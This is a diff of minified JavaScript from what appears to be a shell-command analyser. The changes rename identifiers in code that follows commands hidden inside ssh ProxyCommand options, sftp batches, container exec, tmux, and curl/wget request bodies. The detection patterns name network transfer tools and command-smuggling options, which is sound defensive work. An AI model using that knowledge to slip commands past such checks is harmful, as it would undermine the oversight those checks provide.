-`),S.codeOptions.get("editor")?.does,t);for(let l of i){let c=at.editor_shell.exec(l),[,d]=/^\s*:?lua\s+(.*)/s.exec(l)??[];d!==void 0&&t.runCommandWords(xe(["lu\
-a","-e",d])),c&&t.runShell(c[1]??"sh")}return"\uFFFC"},"sed gsed":Pm,ssh:t=>{let{options:e,operands:s}=j(t.args,ft.ssh),[r,...n]=s,{options:o,operands:i}=j(n,ft.
-ssh),a=i.length===0&&r!==void 0&&t.context.stdin!==void 0;a||t.with({args:t.args.filter(l=>!i.includes(l))}).record();for(let{text:l}of W([...e,...o],"o")){let[
+`),S.codeOptions.get("editor")?.does,t);for(let l of i){let c=at.editor_shell.exec(l),[,d]=/^\s*:?lua\s+(.*)/s.exec(l)??[];d!==void 0&&t.runCommandWords($e(["lu\
+a","-e",d])),c&&t.runShell(c[1]??"sh")}return"\uFFFC"},"sed gsed":Pm,ssh:t=>{let{options:e,operands:s}=W(t.args,ft.ssh),[r,...n]=s,{options:o,operands:i}=W(n,ft.
+ssh),a=i.length===0&&r!==void 0&&t.context.stdin!==void 0;a||t.with({args:t.args.filter(l=>!i.includes(l))}).record();for(let{text:l}of M([...e,...o],"o")){let[
 ,c]=/^(?:ProxyCommand|LocalCommand|KnownHostsCommand)[= ]\s*(.*)/i.exec(l)??[];c!==void 0&&t.runShell(c)}return i.length>0?t.runShell(ie(i).text):a?Tn(t.with({scope:t.
-createChildScope()})):"\uFFFC"},"sftp ftp lftp":t=>{let{options:e,operands:s}=j(t.args,S.getopt.transfer),r=t.context.stdin?.readRest()??"",[n]=W(e,"b"),o=n&&t.
-interpreter.files.written(n.text,t.scope.folder)?.text,i=t.record(),a=[r,o??"",...W(e,"e","c").map(d=>d.text)].join(`
+createChildScope()})):"\uFFFC"},"sftp ftp lftp":t=>{let{options:e,operands:s}=W(t.args,S.getopt.transfer),r=t.context.stdin?.readRest()??"",[n]=M(e,"b"),o=n&&t.
+interpreter.files.written(n.text,t.scope.folder)?.text,i=t.record(),a=[r,o??"",...M(e,"e","c").map(d=>d.text)].join(`
 `).split(/[\n;]/),l=a.flatMap(d=>/^\s*open\s+(?:-\S+\s+)*(\S+)/.exec(d)?.[1]??[]),c=(s[0]?.text??l[0]??"").replace(/^[a-z]+:\/\//,"").replace(/[:/].*$/,"");for(let d of a.
 slice(0,Q$)){let[,u]=at.sending_command.exec(d)??[],p=u?.split(/\s+/).filter(h=>h!==""&&!h.startsWith("-"))??[],f=p.length>1&&!/mput/.test(d)?p.slice(0,-1):p,m=[
 "scp","-r",...f,`${c||"unknown"}:`];f.length>0&&t.runCommandWords(m.map(h=>({text:h,glob:/[*?[]/.test(h)})))}return i},"docker docker-compose podman nerdctl kub\
-ectl oc":t=>{let e=t.record(),{operands:s}=j(t.args,ft.container);(s[0]?.text==="compose"||s[0]?.text==="container")&&({operands:s}=j(s.slice(1),ft.container));
+ectl oc":t=>{let e=t.record(),{operands:s}=W(t.args,ft.container);(s[0]?.text==="compose"||s[0]?.text==="container")&&({operands:s}=W(s.slice(1),ft.container));
 let[r,...n]=s,o=at.container_engine.test(t.program);if(o&&r?.text==="create")return $i;if(!/^(exec|run|debug)$/.test(r?.text??""))return e;let i=n.findIndex(({text:y})=>y===
-"--"),{options:a,operands:l}=j(n,ft.container),c=[...W(a,"entrypoint"),...l.slice(1)],d=i===-1?c:n.slice(i+1),u=o&&r?.text==="run"&&G(a,"d","detach");if(d.length===
+"--"),{options:a,operands:l}=W(n,ft.container),c=[...M(a,"entrypoint"),...l.slice(1)],d=i===-1?c:n.slice(i+1),u=o&&r?.text==="run"&&K(a,"d","detach");if(d.length===
 0)return u?$i:"\uFFFC";let p=Z$(t,n),{invocations:f}=t.interpreter,m=p&&J$(p,f)?t.wrap().wrap(_r):t.wrap(),{context:h}=Gm(p??t.createInvocation(),f)?m.wrap($r):
 m,g=t.interpreter.runWords(d,t.scope,h);return u?$i:g},"curl wget wget2 aria2c axel":t=>{let e=t.record();for(let{text:c}of dn(t))t.write(c,"\uFFFC",t.interpreter.
-invocations.slice(-1));let{options:s,operands:r}=j(t.args,S.getopt.request),n=W(s,...S.programWords.body_options),o=[...W(s,"url"),...r],l=(o.length>0&&o.every(
+invocations.slice(-1));let{options:s,operands:r}=W(t.args,S.getopt.request),n=M(s,...S.programWords.body_options),o=[...M(s,"url"),...r],l=(o.length>0&&o.every(
 ({text:c})=>at.own_server.test(c)&&!at.sql_path.test(c))&&!s.some(({name:c})=>/^(?:x|proxy)$/.test(c))?[]:[...n,...o]).flatMap(({text:c})=>[...c.slice(0,zm).matchAll(
 at.request_fields)].map(([,d,u])=>d===void 0?u.replace(/\\n/g,`
 `).replace(/\\(.)/g,"$1"):Y$(d)));for(let c of[...n.map(({text:d})=>d.slice(0,zm)),...l])at.request_statement.test(c)&&us("sql",c,t);return e},"at batch":t=>Tn(
-t,t.createChildScope()),"cp mv install ln":t=>{let e=t.record(),{options:s,operands:r}=j(t.args,ft.copy),[n]=W(s,"t","target-directory"),o=n??r.at(-1);for(let{text:i}of n?
+t,t.createChildScope()),"cp mv install ln":t=>{let e=t.record(),{options:s,operands:r}=W(t.args,ft.copy),[n]=M(s,"t","target-directory"),o=n??r.at(-1);for(let{text:i}of n?
 r:r.slice(0,-1)){let a=/^\/(usr\/(local\/)?)?s?bin\/[\w.-]+$/.test(i),l=t.findWritten(i)??(a?{text:`${i} "$@"`,from:[]}:void 0);l===void 0||!o||(t.write(o.text,
-l.text,l.from),t.write(`${o.text}/${i.slice(i.lastIndexOf("/")+1)}`,l.text,l.from))}return e},tmux:t=>{let e=t.record(),[s,...r]=j(t.args,ft.tmux).operands,{operands:n}=j(
+l.text,l.from),t.write(`${o.text}/${i.slice(i.lastIndexOf("/")+1)}`,l.text,l.from))}return e},tmux:t=>{let e=t.record(),[s,...r]=W(t.args,ft.tmux).operands,{operands:n}=W(
 r,ft["tmux-command"]);return/^(neww?|(new|split)-\w+|splitw|run|run-shell|respawn-pane|send|send-keys)$/.test(s?.text??"")&&t.runShell(ie(n.filter(({text:o})=>!/^(Enter|C-m|KPEnter)$/.
-test(o))).text),e},screen:t=>{let e=t.record(),{options:s,operands:r}=j(t.args,ft.screen);return t.runShell(G(s,"X")?ie(r).text:Mr(r)),e},cargo:t=>(t.args[0]?.text.
+test(o))).text),e},screen:t=>{let e=t.record(),{options:s,operands:r}=W(t.args,ft.screen);return t.runShell(K(s,"X")?ie(r).text:Mr(r)),e},cargo:t=>(t.args[0]?.text.
 startsWith("+")?t.with({args:t.args.slice(1)}):t).record(),...Object.fromEntries([...S.codeOptions].map(([t,e])=>[t,X$(e)])),[[...S.runners.keys()].join(" ")]:t=>{
-let{after:e=[],code:s=[],skip:r=0,...n}=S.runners.get(t.program),{operands:o}=j(t.args,n);/^(npm|pnpm|yarn|bun)$/.test(t.program)&&Hm(t);let[i]=o;if(/^(?:pnpm|yarn)$/.
+let{after:e=[],code:s=[],skip:r=0,...n}=S.runners.get(t.program),{operands:o}=W(t.args,n);/^(npm|pnpm|yarn|bun)$/.test(t.program)&&Hm(t);let[i]=o;if(/^(?:pnpm|yarn)$/.
 test(t.program)&&o.length>1&&!S.packageVerbs.has(i.text))return t.record(),t.runWords(o);let l=/^(?:workspaces?|foreach|recursive|multi|m)$/.test(o[0]?.text??"")?
-o.slice(0,10).findIndex(({text:m})=>e.includes(m)):0;if(e.length>0&&!e.includes(o[l]?.text??""))return vi(t)??t.record();let c=t.record(),{options:d,operands:u}=j(
-o.slice(e.length>0?l+1:0),n);for(let{text:m}of W(d,...s))t.runShell(m);let p=u.findIndex(({text:m})=>m==="--"),f=p===-1?u.slice(r):u.slice(p+1);return f.length>
+o.slice(0,10).findIndex(({text:m})=>e.includes(m)):0;if(e.length>0&&!e.includes(o[l]?.text??""))return vi(t)??t.record();let c=t.record(),{options:d,operands:u}=W(
+o.slice(e.length>0?l+1:0),n);for(let{text:m}of M(d,...s))t.runShell(m);let p=u.findIndex(({text:m})=>m==="--"),f=p===-1?u.slice(r):u.slice(p+1);return f.length>
 0?t.runCommandWords(f):c}};function _i(t,e=!1){if(!(t.length>200||(t.match(/\*/g)?.length??0)>2))return t.replace(/\\(.)|\[(!|\^)?(\]?[^\]]*)\]|\*+|[\s\S]/g,(s,r,n,o)=>r!==void 0?Ym(r):o!==
 void 0?`[${n?"^":""}${o.replace(/[\\\]^]/g,"\\$&")}]`:s[0]==="*"?e?"[^]*?":"[^]*":s==="?"?"[^]":Ym(s))}var Ym=t=>t.replace(/[\\^$.*+?()[\]{}|/]/g,"\\$&");var t_=8;function s_(t){return t.slice(0,t_).findIndex(({text:e},s)=>{let r=t[s+1]?.text??"";return e==="git"&&t.length>s+2?!0:S.risky.has(e.slice(e.lastIndexOf(
 "/")+1))&&/^[-/~.*]|=|\//.test(r)})}function r_(t){let e=t.includes("\uFFFC")?void 0:_i(t),s=e===void 0?void 0:$s(`^(?:${e})$`);return s?[...S.risky].filter(r=>s.
 test(r)).slice(0,3):[]}function Xm(t){let e=S.wrappers.get(t.program);return e?Qm(t,e):/^ld(-linux.*)?\.so/.test(t.program)?Qm(t,{long:["library-path","preload",
-"argv0"]}):o_(t)}function Qm(t,e){let{skip:s=0}=e,{options:r,operands:n}=j(t.args,e),o=j(n.slice(s),e),i=o.options.length>0&&s>0?o.operands:n.slice(s);s>0&&r.push(
-...o.options);let[a]=W(r,...e.folder??[]),l=a?t.scope.copy():t.scope;a&&(l.folder=a.text);let c=W(r,...e.code??[]),d=t.interpreter.invocations.length;e.own&&t.record();
+"argv0"]}):o_(t)}function Qm(t,e){let{skip:s=0}=e,{options:r,operands:n}=W(t.args,e),o=W(n.slice(s),e),i=o.options.length>0&&s>0?o.operands:n.slice(s);s>0&&r.push(
+...o.options);let[a]=M(r,...e.folder??[]),l=a?t.scope.copy():t.scope;a&&(l.folder=a.text);let c=M(r,...e.code??[]),d=t.interpreter.invocations.length;e.own&&t.record();
 let u="",p={...t.context.environment};e.assigns&&n_(i,p);let f=t.with({scope:l,context:{...t.context,environment:p}}),m=(y,x)=>f.runShell(y,[R("sh"),...x]),h=ie(
-i).text;for(let{text:y}of c)u=m(e.assigns?`${y} ${h}`:y,i);let g=e.joined&&!G(r,"x","exec")||i.length===1&&pi(i[0]);return c.length===0&&i.length>0&&(u=g?m(h,[]):
+i).text;for(let{text:y}of c)u=m(e.assigns?`${y} ${h}`:y,i);let g=e.joined&&!K(r,"x","exec")||i.length===1&&pi(i[0]);return c.length===0&&i.length>0&&(u=g?m(h,[]):
 f.runWords(i)),t.interpreter.invocations.length===d?t.record():u}function n_(t,e){for(;;){let[,s,r]=/^([A-Za-z_]\w*)=([\s\S]*)$/.exec(t[0]?.text??"")??[];if(s===
 void 0)return;e[s]=R(r,t.shift().glob)}}function o_(t){let{program:e,words:s,args:r}=t,n=s[0].glob?r_(e):[e.replaceAll("\uFFFC","")];for(let i of n)i!==""&&i!==
 e&&t.runWords([R(i),...r]);let o=S.nonRunners.has(e)?-1:s_(r);o!==-1&&t.runWords(r.slice(o))}function Pn(t,e){switch(t.type){case"Script":case"CompoundList":case"AndOr":for(let s of t.commands)e(s);return;case"Statement":e(t.command);return;case"Command":
@@ -4547,7 +4547,7 @@ return s>e}var xt=-1,hc=0,ih=1,gc=2,ah=3,Be=4;function f_(t,e){let s=t[t.length-
 1]={type:"Literal",pos:s.pos,end:r.end,text:s.text+r.text,value:s.value+r.value},n=1);for(let o=n;o<e.length;o++)t.push(e[o]);return t}function lh(t){return t<xt}
 function ch(t){return-t-2}function mc(t,e,s,r){let n=r;for(let o=e;o<s&&n>=0;o++){let i=t.charCodeAt(o);if(n>=Be)i===91?n++:i===93&&--n===Be&&(n=gc);else if(n===
 hc)n=i<128&&fs[i]&1?ih:xt;else if(n===ih){if(i<128&&fs[i]&2)continue;i===91?n=Be+1:i===43?n=ah:n=i===61?-o-2:xt}else n===gc?i===43?n=ah:n=i===61?-o-2:xt:n=i===61?
--o-2:xt}return n}function Se(t,e,s,r=0,n=0){t.token=e,t._value=s,t.pos=r,t.end=n,t.fileDescriptor=void 0,t.variableName=void 0,t.descriptorEnd=0,t.delimiterQuoted=
+-o-2:xt}return n}function Ce(t,e,s,r=0,n=0){t.token=e,t._value=s,t.pos=r,t.end=n,t.fileDescriptor=void 0,t.variableName=void 0,t.descriptorEnd=0,t.delimiterQuoted=
 !1,t.content=void 0,t.assignmentOperatorPos=-1,t.raw=!1,t.keywordEligible=!1}function Ps(t,e,s,r,n){t.token=e,t._value=null,t.pos=s,t.end=r,t.fileDescriptor=void 0,
 t.variableName=void 0,t.descriptorEnd=0,t.delimiterQuoted=!1,t.content=void 0,t.assignmentOperatorPos=-1,t.raw=n,t.keywordEligible=!1}function dh(t,e,s){switch(t.
 charCodeAt(e)){case 33:return s===1?b.Bang:void 0;case 123:return s===1?b.LBrace:void 0;case 125:return s===1?b.RBrace:void 0;case 105:{if(s!==2)return;let r=t.
@@ -4640,7 +4640,7 @@ if(o===92){this.pos+=this.pos+1<s?2:1;continue}if(o===39){let i=this.pos++,a=i>r
 this.pos)===92&&this.pos+1<s&&this.pos++,this.pos++;this.pos<s?this.pos++:this.errors.push({message:a?"unterminated ANSI-C quote":"unterminated single quote",pos:i});
 continue}if(o===34){this.pos++,this.readDoubleQuoted();continue}if(o===96){this.readBacktickExpansion();continue}if(n>0){o===41&&n--,this.pos++;continue}if(o===
 36){this.readDollar();continue}if((o===60||o===62)&&this.pos+1<s&&e.charCodeAt(this.pos+1)===40){let i=this.pos;this.pos+=2,this.extractBalanced(),this._unbalanced&&
-this.errors.push({message:"unterminated process substitution",pos:i});continue}if(o<128&&le[o]&1&&o!==124)break;this.pos++}return Se(this.current,b.Word,e.slice(
+this.errors.push({message:"unterminated process substitution",pos:i});continue}if(o<128&&le[o]&1&&o!==124)break;this.pos++}return Ce(this.current,b.Word,e.slice(
 r,this.pos),r,this.pos),this.current}readCStyleForExprs(){this.hasPeek=!1;let e=this.src,s=this.srcEnd;for(;this.pos<s&&(e.charCodeAt(this.pos)===32||e.charCodeAt(
 this.pos)===9);)this.pos++;let r=this.pos;this.pos<s&&e.charCodeAt(this.pos)===40&&this.pos++;let n=[this.pos,0,0],o=["","","",0,0,0],i=0,a=1,l=this.pos,c=!1,d=u=>{
 let p=e.slice(l,u);o[i]=p.trim(),o[3+i]=n[i]+p.length-p.trimStart().length};for(;this.pos<s&&a>0;){let u=e.charCodeAt(this.pos);if(u===40)a++,this.pos++;else if(u===
@@ -4653,30 +4653,30 @@ return this.hasPeek||(this.readNext(this.nextState,e),this.hasPeek=!0),this.next
 C.Normal;this.readNext(this.nextState,s),this.hasPeek=!0}return this.nextState}next(e=C.Normal){if(this.hasPeek){this.hasPeek=!1;let s=this.current;return this.
 current=this.nextState,this.nextState=s,this.current}return this.readNext(this.current,e),this.current}unshift(e){this.nextState.copyFrom(e),this.hasPeek=!0}readNext(e,s){
 let r=this.src,n=this.srcEnd,o=this.pos;for(;;){if(o=In(r,o,n),s===C.TestMode)for(;o<n&&r.charCodeAt(o)===10;)o=In(r,o+1,n);if(o>=n||r.charCodeAt(o)!==35)break;
-for(;o<n&&r.charCodeAt(o)!==10;)o++}if(this.pos=o,o>=n){this.consumePendingHereDocs(),Se(e,b.EOF,"",o,o);return}let i=o,a=r.charCodeAt(o);if(a===10){this.pos++,
-this.consumePendingHereDocs(),Se(e,b.Newline,`
-`,i,this.pos);return}if(s===C.TestMode&&(a===60||a===62)&&!(this.pos+1<this.srcEnd&&r.charCodeAt(this.pos+1)===40)){this.pos++,Se(e,b.Word,a===60?"<":">",i,this.
+for(;o<n&&r.charCodeAt(o)!==10;)o++}if(this.pos=o,o>=n){this.consumePendingHereDocs(),Ce(e,b.EOF,"",o,o);return}let i=o,a=r.charCodeAt(o);if(a===10){this.pos++,
+this.consumePendingHereDocs(),Ce(e,b.Newline,`
+`,i,this.pos);return}if(s===C.TestMode&&(a===60||a===62)&&!(this.pos+1<this.srcEnd&&r.charCodeAt(this.pos+1)===40)){this.pos++,Ce(e,b.Word,a===60?"<":">",i,this.
 pos),e.keywordEligible=!0;return}a<128&&le[a]&1&&this.tryReadOperator(e,a,s,i)||a===91&&s===C.ArrayElement&&this.readArrayElement(e,i)||this.readWord(e,s,i)}tryReadOperator(e,s,r,n){
-let o=this.src,i=this.pos,a=i+1<this.srcEnd?o.charCodeAt(i+1):0;switch(s){case 59:return a===59?i+2<this.srcEnd&&o.charCodeAt(i+2)===38?(this.pos+=3,Se(e,b.DoubleSemiAmp,
-";;&",n,this.pos),!0):(this.pos+=2,Se(e,b.DoubleSemi,";;",n,this.pos),!0):a===38?(this.pos+=2,Se(e,b.SemiAmp,";&",n,this.pos),!0):(this.pos++,Se(e,b.Semi,";",n,
-this.pos),!0);case 124:return a===124?(this.pos+=2,Se(e,b.Or,"||",n,this.pos),!0):a===38?(this.pos+=2,Se(e,b.Pipe,"|&",n,this.pos),!0):(this.pos++,Se(e,b.Pipe,"\
-|",n,this.pos),!0);case 38:if(a===38)return this.pos+=2,Se(e,b.And,"&&",n,this.pos),!0;if(a===62){this.pos+=2;let l=this.pos<this.srcEnd&&o.charCodeAt(this.pos)===
-62;return l&&this.pos++,this.readRedirectTarget(e,l?"&>>":"&>",n)}return this.pos++,Se(e,b.Amp,"&",n,this.pos),!0;case 40:if(r===C.CommandStart&&a===40){let l=this.
-errors.length;if(this.readArithmeticCommand(e,n),!this._notArithmetic)return!0;this.errors.length=l,this.pos=n}return this.pos++,Se(e,b.LParen,"(",n,this.pos),!0;case 41:
-return this.pos++,Se(e,b.RParen,")",n,this.pos),!0;case 60:case 62:return this.readRedirection(e,n);default:return!1}}readRedirection(e,s){let r=this.src,n=r.charCodeAt(
+let o=this.src,i=this.pos,a=i+1<this.srcEnd?o.charCodeAt(i+1):0;switch(s){case 59:return a===59?i+2<this.srcEnd&&o.charCodeAt(i+2)===38?(this.pos+=3,Ce(e,b.DoubleSemiAmp,
+";;&",n,this.pos),!0):(this.pos+=2,Ce(e,b.DoubleSemi,";;",n,this.pos),!0):a===38?(this.pos+=2,Ce(e,b.SemiAmp,";&",n,this.pos),!0):(this.pos++,Ce(e,b.Semi,";",n,
+this.pos),!0);case 124:return a===124?(this.pos+=2,Ce(e,b.Or,"||",n,this.pos),!0):a===38?(this.pos+=2,Ce(e,b.Pipe,"|&",n,this.pos),!0):(this.pos++,Ce(e,b.Pipe,"\
+|",n,this.pos),!0);case 38:if(a===38)return this.pos+=2,Ce(e,b.And,"&&",n,this.pos),!0;if(a===62){this.pos+=2;let l=this.pos<this.srcEnd&&o.charCodeAt(this.pos)===
+62;return l&&this.pos++,this.readRedirectTarget(e,l?"&>>":"&>",n)}return this.pos++,Ce(e,b.Amp,"&",n,this.pos),!0;case 40:if(r===C.CommandStart&&a===40){let l=this.
+errors.length;if(this.readArithmeticCommand(e,n),!this._notArithmetic)return!0;this.errors.length=l,this.pos=n}return this.pos++,Ce(e,b.LParen,"(",n,this.pos),!0;case 41:
+return this.pos++,Ce(e,b.RParen,")",n,this.pos),!0;case 60:case 62:return this.readRedirection(e,n);default:return!1}}readRedirection(e,s){let r=this.src,n=r.charCodeAt(
 this.pos),o="";if(n===60){this.pos++;let i=this.pos<this.srcEnd?r.charCodeAt(this.pos):0;if(i===60){this.pos++;let a=this.pos<this.srcEnd?r.charCodeAt(this.pos):
 0;if(a===60)this.pos++,o="<<<";else{let l=a===45;l&&this.pos++,this.skipSpacesAndTabs();let c=this.pos;(this.pos>=this.srcEnd||r.charCodeAt(this.pos)!==35)&&this.
 readHereDocDelimiter();let d=this.pos>c;return d&&(this.pendingHereDocs??(this.pendingHereDocs=[])).push({delimiter:this._hereDelim,strip:l,quoted:this._hereQuoted}),
-Se(e,b.Redirect,l?"<<-":"<<",s,this.pos),e.content=d?this._hereDelim:void 0,e.delimiterQuoted=d&&this._hereQuoted,e.targetPos=c,e.targetEnd=d?this.pos:c,!0}}else{
+Ce(e,b.Redirect,l?"<<-":"<<",s,this.pos),e.content=d?this._hereDelim:void 0,e.delimiterQuoted=d&&this._hereQuoted,e.targetPos=c,e.targetEnd=d?this.pos:c,!0}}else{
 if(i===40)return this.readProcessSubstitution(e,"<",s),!0;i===62?(o="<>",this.pos++):i===38?(o="<&",this.pos++):o="<"}}else if(n===62){this.pos++;let i=this.pos<
 this.srcEnd?r.charCodeAt(this.pos):0;if(i===40)return this.readProcessSubstitution(e,">",s),!0;i===62?(o=">>",this.pos++):i===38?(o=">&",this.pos++):i===124?(o=
 ">|",this.pos++):o=">"}return this.readRedirectTarget(e,o,s)}readRedirectTarget(e,s,r){let n=this.src;if(this.skipSpacesAndTabs(),this.pos<this.srcEnd){let o=n.
 charCodeAt(this.pos);if((o===60||o===62)&&this.pos+1<this.srcEnd&&n.charCodeAt(this.pos+1)===40){let a=this.pos;this.pos+=2,this.extractBalanced(),this._unbalanced&&
-this.errors.push({message:"unterminated process substitution",pos:a});let l=n.slice(a,this.pos);return Se(e,b.Redirect,s,r,this.pos),e.content=l,e.targetPos=a,e.
+this.errors.push({message:"unterminated process substitution",pos:a});let l=n.slice(a,this.pos);return Ce(e,b.Redirect,s,r,this.pos),e.content=l,e.targetPos=a,e.
 targetEnd=this.pos,!0}let i=this.pos;return o!==10&&o!==35&&this.readRedirectTargetText(),this.redirectToken(e,s,r,i),!0}return this.redirectToken(e,s,r,this.pos),
 !0}readRedirectTargetText(){let e=this._buildValue;this._buildValue=!0,this.readWordText(),this._buildValue=e}redirectToken(e,s,r,n){let o=this.pos>n&&(this._wordText.
-length>0||this._wordQuoted);Se(e,b.Redirect,s,r,this.pos),e.content=o?this._wordText:void 0,e.targetPos=n,e.targetEnd=o?this.pos:n}readProcessSubstitution(e,s,r){
-this.pos++,this.extractBalanced(),this._unbalanced&&this.errors.push({message:"unterminated process substitution",pos:r});let n=this.src.slice(r,this.pos);Se(e,
+length>0||this._wordQuoted);Ce(e,b.Redirect,s,r,this.pos),e.content=o?this._wordText:void 0,e.targetPos=n,e.targetEnd=o?this.pos:n}readProcessSubstitution(e,s,r){
+this.pos++,this.extractBalanced(),this._unbalanced&&this.errors.push({message:"unterminated process substitution",pos:r});let n=this.src.slice(r,this.pos);Ce(e,
 b.Word,n,r,this.pos)}readHereDocDelimiter(){let e=this.src,s=this.srcEnd,r=this._buildValue;this._buildValue=!0;let n="",o=!1;for(;this.pos<s;){let i=e.charCodeAt(
 this.pos);if(i===39){for(o=!0,this.pos++;this.pos<s&&e.charCodeAt(this.pos)!==39;)n+=e[this.pos],this.pos++;this.pos<s&&this.pos++}else if(i===34){for(o=!0,this.
 pos++;this.pos<s&&e.charCodeAt(this.pos)!==34;){if(e.charCodeAt(this.pos)===92&&this.pos+1<s){let a=e.charCodeAt(this.pos+1);if(a===10){this.pos+=2;continue}(a===
@@ -4702,13 +4702,13 @@ Word,s,this.pos,!0),!0)}classifyWord(e,s,r,n){let o=this.src,i=this._wordRaw,a=t
 u=this.pos,p=u-r;if(s===C.CasePattern){let m=b.Word;if(c){let h=i?dh(o,r,p):sh.get(this.wordValueOf(r,u));h===b.Esac&&(m=h)}Ps(e,m,r,u,i),e.keywordEligible=c;return}
 let f=null;if(!i&&!a&&c&&(s===C.CommandStart||s===C.TestMode)){let m=u<this.srcEnd?o.charCodeAt(u):0;(!l&&p<=16||m===60||m===62)&&(f=this.wordValueOf(r,u))}if(s===
 C.CommandStart&&c){if(i){if(p<=8){let m=dh(o,r,p);if(m!==void 0){Ps(e,m,r,u,!0);return}}if(p===2&&o.charCodeAt(r)===91&&o.charCodeAt(r+1)===91){Ps(e,b.DblLBracket,
-r,u,!0);return}}else if(f!==null&&f.length>0){let m=f.charCodeAt(0);if(m>=97&&m<=122&&f.length<=8||m===33||m===123||m===125){let h=sh.get(f);if(h!==void 0){Se(e,
-h,f,r,u);return}}if(m===91&&f==="[["){Se(e,b.DblLBracket,f,r,u);return}}}if(s===C.CommandStart||s===C.CommandPrefix||s===C.Declaration){if(d===void 0){let m=-1,
+r,u,!0);return}}else if(f!==null&&f.length>0){let m=f.charCodeAt(0);if(m>=97&&m<=122&&f.length<=8||m===33||m===123||m===125){let h=sh.get(f);if(h!==void 0){Ce(e,
+h,f,r,u);return}}if(m===91&&f==="[["){Ce(e,b.DblLBracket,f,r,u);return}}}if(s===C.CommandStart||s===C.CommandPrefix||s===C.Declaration){if(d===void 0){let m=-1,
 h=!1;for(let g=r+1;g<u;g++){let y=o.charCodeAt(g);if(y===61){m=g;break}y===91&&(h=!0)}(m!==-1||s!==C.Declaration&&h)&&(d=mc(o,r,u,hc))}if(d!==void 0){if(s!==C.Declaration&&
 d>=Be){if(u<this.srcEnd&&(this._errors!==null&&(this._errors.length=n),this.pos=r,this.readWordText(!0,s,!0),this.pos>u)){this.classifyWord(e,s,r,n);return}(this.
 _errors===null||this._errors.length===n)&&this.errors.push({message:"unterminated array subscript",pos:o.indexOf("[",r)})}if(lh(d)){Ps(e,b.Assignment,r,u,i),f!==
 null&&(e._value=f),e.assignmentOperatorPos=ch(d);return}}}if((s===C.CommandStart||s===C.TestMode)&&c){if(i){if(p===2&&o.charCodeAt(r)===93&&o.charCodeAt(r+1)===
-93){Ps(e,b.DblRBracket,r,u,!0);return}}else if(f==="]]"){Se(e,b.DblRBracket,f,r,u);return}}if(!a&&this.pos<this.srcEnd){let m=o.charCodeAt(this.pos);if((m===60||
+93){Ps(e,b.DblRBracket,r,u,!0);return}}else if(f==="]]"){Ce(e,b.DblRBracket,f,r,u);return}}if(!a&&this.pos<this.srcEnd){let m=o.charCodeAt(this.pos);if((m===60||
 m===62)&&i){let h=o.charCodeAt(r);if(h>=48&&h<=57&&p_(o,r,u)){let g=Number.parseInt(o.slice(r,u),10);if(this.readRedirection(e,r)){e.fileDescriptor=g,e.descriptorEnd=
 u;return}}if(h===123&&o.charCodeAt(u-1)===125&&this.isRedirectVariable(r+1,u-1)){let g=o.slice(r+1,u-1);if(this.readRedirection(e,r)){e.variableName=g,e.descriptorEnd=
 u;return}}}}Ps(e,b.Word,r,u,i),f!==null&&(e._value=f),e.keywordEligible=c}readWordText(e=!1,s=C.Normal,r=!1){let n=this.src,o=this.srcEnd,i=this.pos,a=i,l=0;for(;i<
@@ -4716,28 +4716,28 @@ o;){let q=n.charCodeAt(i);if(q<128&&le[q]){l=q;break}i++}if(i>=o||le[l]&1&&!(l==
 this._buildValue)&&i>a?n.slice(a,i):"",this._wordRaw=!0,this._wordQuoted=!1,this._wordHasExpansions=!1,this._wordKeywordEligible=!0,this._wordAssignmentState=void 0,
 this._buildParts&&(this._wordParts=Ts(this._wordText)&&s!==C.ArrayElement?Bt(n,a,i,void 0)??null:null);return}let c=this._buildParts,d=c||this._buildValue,u=d&&
 i>a?n.slice(a,i):"",p=!1,f=!1,m=!0,h=!0,g=i>a?n.charCodeAt(i-1):0,y=mc(n,a,i,hc),x,_="",E=0,$=!1,T;for(c&&(x=[],_=u,E=a,$=u.length>0&&Ts(u));i<o;){let q=n.charCodeAt(
-i);if(q>=128||!le[q]){let A=i;for(i++;i<o;){let O=n.charCodeAt(i);if(O<128&&le[O])break;i++}if(g=n.charCodeAt(i-1),y=mc(n,A,i,y),d){let O=n.slice(A,i);u+=O,c&&(_+=
-O,$=$||Ts(O))}continue}if(le[q]&1){if(e&&y>=Be){let A=this.findClosingBracket(i);if(A!==-1){let O=A+1;if(y=y===Be+1?gc:y-1,g=n.charCodeAt(A),d){let K=n.slice(i,
-O);u+=K,c&&(_+=K,$=$||Ts(K))}i=O;continue}}if(q===40&&g<128&&ms[g]){if(s===C.FunctionName||y>=Be&&(s===C.CommandStart||s===C.CommandPrefix)||s===C.CommandStart&&
+i);if(q>=128||!le[q]){let A=i;for(i++;i<o;){let N=n.charCodeAt(i);if(N<128&&le[N])break;i++}if(g=n.charCodeAt(i-1),y=mc(n,A,i,y),d){let N=n.slice(A,i);u+=N,c&&(_+=
+N,$=$||Ts(N))}continue}if(le[q]&1){if(e&&y>=Be){let A=this.findClosingBracket(i);if(A!==-1){let N=A+1;if(y=y===Be+1?gc:y-1,g=n.charCodeAt(A),d){let j=n.slice(i,
+N);u+=j,c&&(_+=j,$=$||Ts(j))}i=N;continue}}if(q===40&&g<128&&ms[g]){if(s===C.FunctionName||y>=Be&&(s===C.CommandStart||s===C.CommandPrefix)||s===C.CommandStart&&
 g===33&&m&&n.charCodeAt(a)===33&&rt(n,a+1,o)===i)break;let A=g;if(A===61&&r&&!((s===C.CommandStart||s===C.CommandPrefix||s===C.Declaration||s===C.EvalArgument)&&
-lh(y)&&rt(n,ch(y)+1,o)===i))break;let O=i+1,K=this.findClosingShellDelimiter(O,o,41,A===61);if(K===-1&&!r&&!e&&y>=Be||s===C.CommandStart&&A!==61&&K!==-1&&In(n,O,
-K)===K)break;m=!1;let Ee=K===-1?o:K;if(i=K===-1?o:K+1,K===-1&&this.errors.push({message:"unterminated extended glob",pos:O-2}),g=n.charCodeAt(i-1),d){let F="("+
-n.slice(O,i);if(u+=F,c&&A!==61){let ye=O-2;for(;n.charCodeAt(ye)===10&&n.charCodeAt(ye-1)===92;)ye-=2;if(_.length>0){let ne=_.slice(0,-1);ye>E&&x.push({type:"Li\
-teral",pos:E,end:ye,value:ne,text:n.slice(E,ye)}),_=""}let V=u_[A];x.push({type:"ExtendedGlob",pos:ye,end:i,text:n.slice(ye,i),operator:V,pattern:n.slice(O,Ee),
-parts:this.subFieldParts(O,Ee)}),E=i}else c&&(_+=F,$=$||Ts(F))}continue}break}if(q===92){i++,i<o?n.charCodeAt(i)===10?(i++,h=!1):(y>=0&&y<Be&&(y=xt),p=!0,m=!1,h=
